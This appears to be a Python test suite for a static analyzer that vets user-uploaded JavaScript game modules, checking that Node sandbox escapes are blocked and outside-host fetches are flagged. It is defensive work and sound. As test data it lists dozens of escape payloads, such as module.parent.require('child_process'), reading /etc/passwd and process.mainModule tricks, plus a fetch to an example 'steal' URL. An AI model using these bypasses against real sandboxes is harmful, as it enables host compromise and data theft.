"""Capability taint (issue #19 item 7): the module-scope capabilities (`module`, `require`,
`exports`, the wrapper's `arguments`, `process`, `globalThis`/`global`, module-scope `this`) may
only be used in their documented safe forms; every other flow of them, however aliased, blocks.
Also `fetch`/`WebSocket` to a host outside the game is reported (a warning)."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analysis import AnalysisLimits, analyze
from core.contracts import AnalysisReport, Severity

HOOKS = "\nmodule.exports = { onJoin(room, player) {}, onMessage(room, player, type, data) {} };\n"
LIMITS = AnalysisLimits(time_budget_seconds=30)


def report_of(source: str, filename: str = "game.js") -> AnalysisReport:
    return analyze((source + HOOKS).encode(), limits=LIMITS, filename=filename)


def rules(report: AnalysisReport) -> list[str]:
    return [f.rule for f in report.findings]


# --- the reviewer's shapes, and their relatives ---------------------------------------------------

BYPASSES = [
    # module.parent / module.children: the runtime's own module and its require
    "module.parent.require('fs').readFileSync('/etc/passwd');",
    "module.parent.require('child_process').execSync('id');",
    "module.parent.require('net').connect(80, 'example.com');",
    "module.parent.require('worker_threads');",
    "module.children[0].require('fs');",
    "module?.parent?.require('fs');",
    "const w = module.parent.require;",
    # the CommonJS wrapper's arguments: (exports, require, module, __filename, __dirname)
    "arguments[1]('fs');",
    "arguments[2].parent.require('fs');",
    "const r = arguments[1]; r('child_process');",
    "(() => arguments[1]('fs'))();",
    "const [, load] = arguments; load('fs');",
    "Array.prototype.slice.call(arguments)[1]('fs');",
    "for (const a of arguments) { a; }",
    # member names computed at run time
    "module['par' + 'ent'].require('fs');",
    "module[`parent`].require('fs');",
    "const k = 'req' + 'uire'; module[k]('fs');",
    "const k = ['par', 'ent'].join(''); module[k].require('fs');",
    "const o = { k: module }; const name = 'k'; o[name].parent.require('fs');",
    # aliasing through variables, assignments, destructuring, parameters, objects, returns
    "const m = module; m.parent.require('fs');",
    "let m; m = module; m.parent.require('fs');",
    "var a = b = module;",
    "const { parent } = module; parent.require('fs');",
    "const { parent: { require: r } } = module; r('fs');",
    "const { require: r } = module; r('fs');",
    "let p; ({ parent: p } = module); p.require('fs');",
    "function load(m) { return m.parent.require('fs'); } load(module);",
    "const box = { m: module }; box.m.parent.require('fs');",
    "const box = { module }; box.module.parent.require('fs');",
    "const list = [module]; list[0].parent.require('fs');",
    "function get() { return module; } get().parent.require('fs');",
    "const get = () => module; get().parent.require('fs');",
    "const m = module || null; m.parent.require('fs');",
    "const m = (0, module); m.parent.require('fs');",
    "const m = Math.random() > 2 ? null : module;",
    "function f(m = module) { return m; }",
    "class Holder { static m = module; }",
    "try { throw module; } catch (m) { m.parent.require('fs'); }",
    "[module].map((m) => m.parent.require('fs'));",
    "Promise.resolve(module).then((m) => m.parent.require('fs'));",
    "async function f() { const m = await module; return m; }",
    "function* g() { yield module; }",
    "Object.getOwnPropertyDescriptor(module, 'parent').value.require('fs');",
    "Reflect.get(module, 'parent').require('fs');",
    "Object.values(module);",
    "const all = { ...module };",
    "console.log(process);",
    "JSON.stringify(process);",
    "const r = require; r('fs');",
    "(0, require)('child_process');",
    "(null || require)('fs');",
    "const { resolve } = require;",
    "require.resolve('fs');",
    # module-scope this is the exports object: only this.x is a safe form
    "const self = this; self.x = 1;",
    "(() => this)();",
    "(function () {}).call(this);",
    # exports, process, the global object
    "const e = exports;",
    "const g = globalThis; g.process.mainModule.require('fs');",
    "const g = global; g.process.mainModule.require('fs');",
    "const { process: p } = globalThis; p.mainModule.require('fs');",
    "globalThis.process.mainModule.require('fs');",
    "const p = globalThis.process;",
    "const m = globalThis.module;",
    "process.stdout.constructor;",
    "process.on('exit', () => {});",
    "const { stdout } = process;",
    "with (module) { parent.require('fs'); }",
    "const tag = (s, m) => m; tag`${module}`.parent.require('fs');",
    "import('./x.js', { with: module });",
    # the Function constructor and friends (covered by the older rules)
    "Function('return process')().mainModule.require('fs');",
    "new Function('return module')();",
    "(function () {}).constructor('return process')();",
]


OUTSIDE_FILES = [
    "require('../../gameserver/runtime/server.js');",
    "require('/app/runtime/watchdog.js');",
    "module.require('./a/../../b');",
    "require('file:///etc/passwd');",
    "import('../x.js');",
]
# Host modules whose escape is one step away: tty.ReadStream's prototype is net.Socket,
# diagnostics_channel and async_hooks hand out the runtime's requests and sockets, node:test
# runs files in child processes.
MORE_HOST_MODULES = ["tty", "diagnostics_channel", "async_hooks", "node:test", "node:sqlite"]


def test_files_outside_the_game_and_more_host_modules() -> None:
    for source in OUTSIDE_FILES:
        assert "capability-escape" in rules(report_of(source)), source
    report = analyze(b"import x from '../runtime/server.js';\nexport default { onJoin() {} };\n")
    assert "capability-escape" in rules(report)
    for source in ["require('./helpers');", "require('./a/../b.js');", "require('.');"]:
        report = report_of(source)
        assert report.ok, (source, report.findings)
        assert rules(report) == ["local-module"], (source, report.findings)
    for name in MORE_HOST_MODULES:
        assert "host-module" in rules(report_of(f"require('{name}');")), name


def test_every_bypass_shape_is_blocked() -> None:
    passed = []
    for source in BYPASSES:
        report = report_of(source)
        assert "syntax-error" not in rules(report), (source, report.findings)
        if report.ok:
            passed.append(source)
    assert passed == [], f"{len(passed)} shapes passed: {passed}"


def test_module_parent_require_names_the_rule() -> None:
    report = report_of("module.parent.require('child_process').execSync('id');")
    (finding,) = [f for f in report.findings if f.rule == "capability-escape"]
    assert finding.severity == Severity.BLOCK
    assert (finding.line, finding.column) == (1, 1)
    assert "module.parent" in finding.message
    assert finding.hint


def test_arguments_at_module_scope_only() -> None:
    assert "capability-escape" in rules(report_of("const r = arguments[1];"))
    # In a function (even one nested in an arrow) `arguments` is that function's own.
    for source in ["function f() { return arguments[0]; }",
                   "const f = () => function () { return [...arguments]; };",
                   "function f() { const g = () => arguments.length; return g(); }"]:
        report = report_of(source)
        assert report.ok, (source, report.findings)
        assert "capability-escape" not in rules(report), (source, report.findings)


def test_this_at_module_scope_and_in_strict_code() -> None:
    for source in ["class A { m() { return this; } x = this; static { const s = this; } }",
                   "const o = { get v() { 'use strict'; return this; } };",
                   "function F() { 'use strict'; const self = this; return () => self; }",
                   "function F() { this.cells = []; this.count = this.cells.length; }",
                   "const x = this.constructor.name;",
                   "class A { m() { return this.process; } }",
                   "this.helper = 1;"]:
        report = report_of(source)
        assert report.ok, (source, report.findings)
        assert "capability-escape" not in rules(report), (source, report.findings)
    for source, filename in [("'use strict';\nfunction f() { return this; }" + HOOKS, "game.js"),
                             ("export function f() { return this; }\nexport default { onJoin() {} };",
                              "game.mjs")]:
        report = analyze(source.encode(), limits=LIMITS, filename=filename)
        assert report.ok, (source, report.findings)
        assert "capability-escape" not in rules(report), (source, report.findings)
    assert "capability-escape" in rules(report_of("const f = () => this;"))
    # A computed key of a class member is evaluated outside the class.
    assert "capability-escape" in rules(report_of("class A { [use(this)]() {} }"))


# Outside strict mode a function called on its own gets the global object as `this`.
SLOPPY_THIS = [
    "(function () { return this; })().process.mainModule.require('fs');",
    "const g = { m() { return this; } }.m(); g.process.mainModule.require('fs');",
    "[0].map(function () { return this; })[0].process.mainModule.require('fs');",
    "function f() { return this.process.mainModule.require('fs'); } f();",
    "function f() { const { process: p } = this; return p; }",
    "function f() { use(this); }",
    "function f(k) { return this[k]; }",
    "function f() { return Object.getOwnPropertyDescriptor(this, 'process').value; }",
]


def test_this_of_sloppy_functions_is_the_global_object() -> None:
    for source in SLOPPY_THIS:
        report = report_of(source)
        found = [f for f in report.findings if f.rule == "capability-escape"]
        assert found, (source, report.findings)
        assert not report.ok, (source, report.findings)
        # The same code in strict mode is fine: `this` is then undefined in a plain call.
        strict = analyze(("'use strict';\n" + source + HOOKS).encode(), limits=LIMITS)
        assert "capability-escape" not in rules(strict), (source, strict.findings)


def test_commonjs_wrapper_parse_keeps_module_scope() -> None:
    # A top-level return makes the analyzer parse the file inside a function wrapper; the
    # wrapper must not count as a function around the module's own `this`/`arguments`.
    source = "if (!module) return;\nconst r = arguments[1];\nconst self = this;\n"
    found = [f for f in report_of(source).findings if f.rule == "capability-escape"]
    assert [(f.line, f.column) for f in found] == [(2, 11), (3, 14)]


def test_parameters_named_like_capabilities_are_bindings() -> None:
    for source in ["const f = async (module) => 1;", "const g = (a, require) => a;",
                   "function h({ process }) { return 1; }", "const o = { module: 1, process: 2 };",
                   "const v = o.module + o.require;"]:
        report = report_of(source)
        assert "capability-escape" not in rules(report), (source, report.findings)


def test_one_finding_per_place() -> None:
    """Where an older, more specific rule already blocks the same expression, it speaks alone."""
    for source, rule in [("const p = process;", "process-alias"), ("process.env.X;", "process-env"),
                         ("module.constructor._load('fs');", "process-internals"),
                         ("const g = globalThis;", "global-alias"),
                         ("module[key];", "computed-global-access")]:
        found = rules(report_of(source))
        assert rule in found, (source, found)
        assert "capability-escape" not in found, (source, found)


def test_allowing_a_specific_rule_does_not_reblock_it() -> None:
    report = analyze(("process.env.X;" + HOOKS).encode(), allow_rules=["process-env"])
    assert report.ok, report.findings


# --- network egress ------------------------------------------------------------------------------

EGRESS = [
    "fetch('https://example.com/steal');",
    "fetch(url);",
    "fetch(`https://${host}/x`);",
    "fetch('//example.com/x');",
    "fetch('/' + path);",
    "globalThis.fetch('http://10.0.0.1/');",
    "new WebSocket('wss://example.com');",
    "new WebSocket(address);",
    "new globalThis.WebSocket('ws://' + host);",
]
LOCAL_URLS = [
    "fetch('/api/scores');",
    "fetch('./data.json');",
    "fetch(`/api/rooms/${id}`);",
    "fetch('../levels/' + name);",
    "const ws = { fetch() {} }; ws.fetch('https://example.com');",
]


def test_es_module_exports() -> None:
    for source, blocked in [("export default process;", True),
                            ("const p = 1;\nexport { p as process };", False),
                            ("export { process } from './state.js';", False)]:
        report = analyze((source + "\nexport const onJoin = () => {};\n").encode(),
                         filename="game.mjs")
        # (The older process-alias rule flags the name `process` in any export specifier.)
        if blocked:
            assert not report.ok, (source, report.findings)
        else:
            assert "capability-escape" not in rules(report), (source, report.findings)


def test_network_egress_is_a_warning() -> None:
    for source in EGRESS:
        report = report_of(source)
        found = [f for f in report.findings if f.rule == "network-egress"]
        assert found, (source, report.findings)
        assert all(f.severity == Severity.WARN for f in found), (source, report.findings)
        assert report.ok, (source, report.findings)


def test_relative_urls_are_not_egress() -> None:
    for source in LOCAL_URLS:
        report = report_of(source)
        assert report.ok, (source, report.findings)
        assert "network-egress" not in rules(report), (source, report.findings)


# --- generated aliasing shapes ---------------------------------------------------------------------

# A capability, and what an attacker does with it at the end of the chain.
CAPABILITIES = [
    ("module", ".parent.require('fs')"),
    ("module", ".children[0].require('child_process')"),
    ("module.parent", ".require('net')"),
    ("module['par' + 'ent']", ".require('worker_threads')"),
    ("require", "('child_process')"),
    ("module.require", "('fs')"),
    ("arguments", "[1]('fs')"),
    ("arguments[1]", "('child_process')"),
    ("arguments[2]", ".parent.require('fs')"),
    ("process", ".mainModule.require('fs')"),
    ("globalThis", ".process.mainModule.require('fs')"),
    ("global", ".process.mainModule.require('fs')"),
    ("globalThis.process", ".mainModule.require('fs')"),
    ("this", ".constructor.constructor('return process')()"),
    ("exports", ".constructor.constructor('return process')()"),
    ("(function () { return this; })()", ".process.mainModule.require('fs')"),
    ("({ m() { return this; } }).m()", ".process.mainModule.require('fs')"),
]


def _var(expr: str, n: int) -> tuple[str, str]:
    return f"const v{n} = {expr};", f"v{n}"


def _let(expr: str, n: int) -> tuple[str, str]:
    return f"let v{n};\nv{n} = {expr};", f"v{n}"


def _object(expr: str, n: int) -> tuple[str, str]:
    return f"const o{n} = {{ k{n}: {expr} }};", f"o{n}.k{n}"


def _shorthand(expr: str, n: int) -> tuple[str, str]:
    return f"const s{n} = {expr};\nconst o{n} = {{ s{n} }};", f"o{n}.s{n}"


def _array(expr: str, n: int) -> tuple[str, str]:
    return f"const a{n} = [0, {expr}];", f"a{n}[1]"


def _function(expr: str, n: int) -> tuple[str, str]:
    return f"function f{n}(x) {{ return x; }}", f"f{n}({expr})"


def _arrow(expr: str, n: int) -> tuple[str, str]:
    return f"const f{n} = (x) => x;", f"f{n}({expr})"


def _thunk(expr: str, n: int) -> tuple[str, str]:
    # An arrow keeps the module's `this` and `arguments`.
    return f"const t{n} = () => {expr};", f"t{n}()"


def _default(expr: str, n: int) -> tuple[str, str]:
    return f"const f{n} = (x = {expr}) => x;", f"f{n}()"


def _destructure(expr: str, n: int) -> tuple[str, str]:
    return f"const {{ k{n}: d{n} }} = {{ k{n}: {expr} }};", f"d{n}"


def _array_destructure(expr: str, n: int) -> tuple[str, str]:
    return f"const [, d{n}] = [0, {expr}];", f"d{n}"


def _computed_name(expr: str, n: int) -> tuple[str, str]:
    # The holder's key is assembled at run time, so no constant folding recovers it.
    return (f"const o{n} = {{ key{n}: {expr} }};\nconst n{n} = 'key' + String({n});",
            f"o{n}[n{n}]")


def _computed_store(expr: str, n: int) -> tuple[str, str]:
    return f"const o{n} = {{}};\no{n}['c' + '{n}'] = {expr};", f"o{n}['c' + '{n}']"


def _logical(expr: str, n: int) -> tuple[str, str]:
    return "", f"(null || {expr})"


def _conditional(expr: str, n: int) -> tuple[str, str]:
    return "", f"(Date.now() > 0 ? {expr} : null)"


def _sequence(expr: str, n: int) -> tuple[str, str]:
    return "", f"(0, {expr})"


def _class_static(expr: str, n: int) -> tuple[str, str]:
    # Not a field initializer: there `this` is the class and `arguments` a syntax error.
    return f"class C{n} {{}}\nC{n}.v = {expr};", f"C{n}.v"


def _callback(expr: str, n: int) -> tuple[str, str]:
    return f"const c{n} = [{expr}].map((x) => x);", f"c{n}[0]"


def _reflect(expr: str, n: int) -> tuple[str, str]:
    return f"const r{n} = {{ k: {expr} }};", f"Reflect.get(r{n}, 'k')"


STEPS = [_var, _let, _object, _shorthand, _array, _function, _arrow, _thunk, _default,
         _destructure, _array_destructure, _computed_name, _computed_store, _logical,
         _conditional, _sequence, _class_static, _callback, _reflect]


@st.composite
def alias_chains(draw: st.DrawFn) -> str:
    start, use = draw(st.sampled_from(CAPABILITIES))
    steps = draw(st.lists(st.sampled_from(STEPS), min_size=1, max_size=5))
    lines = []
    expr = start
    for n, step in enumerate(steps):
        prelude, expr = step(expr, n)
        if prelude:
            lines.append(prelude)
    lines.append(f"{expr}{use};")
    return "\n".join(lines)


GENERATED = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@GENERATED
@given(alias_chains())
def test_generated_alias_chains_are_blocked(source: str) -> None:
    report = report_of(source)
    assert "syntax-error" not in rules(report), (source, report.findings)
    assert not report.ok, source


# --- generated safe forms --------------------------------------------------------------------------

HOOK_BODIES = st.sampled_from([
    "{}",
    "{ room.broadcast('joined', { id: player.id }); }",
    "{ this.count = (this.count || 0) + 1; }",
    "{ const args = Array.from(arguments); return args.length; }",
    "{ process.nextTick(() => room.send(player.id, 'hi', {})); }",
])


@st.composite
def safe_modules(draw: st.DrawFn) -> str:
    body = draw(HOOK_BODIES)
    hooks = f"onJoin(room, player) {body}, onMessage(room, player, type, data) {{}}"
    max_players = draw(st.integers(min_value=1, max_value=64))
    form = draw(st.sampled_from([
        f"module.exports = {{ maxPlayers: {max_players}, {hooks} }};",
        f"const game = {{ maxPlayers: {max_players}, {hooks} }};\nmodule.exports = game;",
        f"module.exports = exports = {{ {hooks} }};",
        (f"module.exports.onJoin = function (room, player) {body};\n"
         f"module.exports.maxPlayers = {max_players};"),
        f"exports.onJoin = function (room, player) {body};\nexports.onMessage = () => {{}};",
        f"exports['on' + 'Message'] = () => {{}};\nexports.onJoin = function (room, player) {body};",
        f"Object.assign(module.exports, {{ {hooks} }});",
        (f"if (typeof module !== 'undefined' && module.exports) {{\n"
         f"  module.exports = {{ {hooks} }};\n}}"),
        f"class Game {{ static onJoin(room, player) {body} }}\nmodule.exports = Game;",
        f"module['exports'] = {{ {hooks} }};",
    ]))
    extras = draw(st.lists(st.sampled_from([
        "const crypto = require('node:crypto');",
        "const { randomInt } = require('crypto');",
        "const { EventEmitter } = require('events');",
        "const helpers = require('./helpers');",
        "const started = process.hrtime.bigint();",
        "const { nextTick, uptime } = process;",
        "const up = process.uptime() + process.memoryUsage().rss;",
        "function count() { return arguments.length; }",
        "class Board { constructor() { this.cells = []; } reset() { return this; } }",
        "const util = { get me() { 'use strict'; return this; } };",
        "const copy = globalThis.structuredClone({ a: 1 });",
        "globalThis.counter = 0;",
        "if (typeof require === 'function' && typeof process === 'object') {}",
        "const isNode = typeof globalThis.process !== 'undefined';",
        "const same = module === undefined;",
        "this.helper = () => 1;",
        "const id = module.id + module.filename;",
        "const here = exports.onJoin;",
        "fetch('/api/scores');",
    ]), max_size=6, unique=True))
    return "\n".join([*extras, form]) + "\n"


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(safe_modules())
def test_generated_safe_forms_do_not_block(source: str) -> None:
    report = analyze(source.encode(), limits=LIMITS)
    blocking = [(f.rule, f.line, f.message) for f in report.findings if f.severity == Severity.BLOCK]
    assert blocking == [], source
    assert "capability-escape" not in rules(report), source
